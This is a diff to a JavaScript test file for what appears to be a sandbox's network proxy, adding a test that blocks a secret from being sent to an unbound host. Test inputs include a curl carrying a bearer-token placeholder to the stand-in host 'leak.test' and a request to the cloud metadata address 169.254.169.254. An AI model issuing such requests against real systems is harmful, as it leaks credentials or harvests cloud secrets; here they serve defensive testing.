@@ -27,7 +27,15 @@ import { parentOf, recordSpans } from "../helpers/otel.js";
 const dataDir = isolateDataDir();
 const scratch = scratchDir();
 const spans = recordSpans();
-const NAMES = ["api.test", "other.test", "late.test", "slow.test", "a.cdn.test", "b.cdn.test"];
+const NAMES = [
+  "api.test",
+  "other.test",
+  "late.test",
+  "slow.test",
+  "a.cdn.test",
+  "b.cdn.test",
+  "leak.test",
+];
 const servers = new InterceptServers();
 const resolveOverrides = Object.fromEntries(NAMES.map((n) => [n, "127.0.0.1"]));
 const SECRET = "real-secret-0b5e7a";
@@ -292,6 +300,20 @@ describe(
       const r = await sb.exec(curl("http://169.254.169.254/latest/meta-data/"));
       assert.equal(r.stdout, "403\n");
       assert.equal(asked.length, 0);
+    });
+
+    test("a secret's placeholder toward a host it is not bound to is never put to the approver", async () => {
+      decide = () => "sandbox";
+      asked.length = 0;
+      const r = await sb.exec(curl(url("leak.test", "/leak"), '-H "Authorization: Bearer $TOKEN"'));
+      assert.equal(r.stdout, "403\n");
+      assert.deepEqual(asked, [], "nobody is asked about a secret leak");
+      assert.ok(!(await sb.allowedHosts()).hosts.some((h) => h.startsWith("leak.test")));
+      await until("its event", () => network().some((n) => n.url.endsWith("/leak")));
+      const e = network().find((n) => n.url.endsWith("/leak"));
+      assert.equal(e?.code, "secret_leak");
+      assert.equal(e?.approval, undefined);
+      assert.deepEqual(servers.requestsFor("/leak"), []);
     });
 
     test("spans: the exec under the caller's span, its request and file operations under it", async () => {
